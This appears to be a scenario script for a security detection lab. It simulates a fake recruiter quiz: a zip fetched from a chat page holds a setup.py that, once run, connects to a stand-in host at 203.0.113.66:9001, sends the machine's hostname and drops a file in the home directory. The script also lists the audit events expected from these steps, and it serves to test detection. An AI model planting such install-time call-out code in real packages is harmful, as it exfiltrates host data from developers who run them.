# The quiz of a recruiter.
title="Zip from a chat service, its setup.py run"
what="The dev saves a zip file from a chat page with Chromium, unpacks it in another folder and runs setup.py of it, which connects to 203.0.113.66 port 9001 and leaves a file in the home."
host=ws3.example.org user=dev daemons="cron" audit_rules=audit-wide.rules

setup() {
  mkdir -p "$base/out/www/file" "$base/out/q/quiz"
  printf 'import socket,os\nfrom setuptools import setup\ns=socket.create_connection(("203.0.113.66",9001));s.send(os.uname().nodename.encode());s.close()\nopen(os.path.expanduser("~/.pam_environment.d"),"w").write("x")\nsetup(name="quiz")\n' > "$base/out/q/quiz/setup.py"
  (cd "$base/out/q" && zip -qr "$base/out/www/file/quiz-challenge.zip" quiz)
}
act() {
  small_talk 1
  display_up
  chromium_as dev https://chat.example.com/file/quiz-challenge.zip
  wait_file /home/dev/Downloads/quiz-challenge.zip 40
  sleep 2
  console_as dev <<'L'
mkdir -p code; cd code
unzip -q ~/Downloads/quiz-challenge.zip
cd quiz; ls
%sleep 3
python3 setup.py egg_info
%sleep 2
L
  desktop_close
  small_talk 1
}
truth() {
  file_step save 'chromium.* (rename|link) .*CREATE /home/dev/Downloads/quiz-challenge.zip$' 'the browser saves the file'
  exec_step unpack 'unzip -q /home/dev/Downloads' 'it is unpacked elsewhere'
  exec_step execute 'python3 setup.py egg_info' 'its setup.py is run'
  net_step call-out 'python3.* 203.0.113.66:9001' 'and calls out'
}
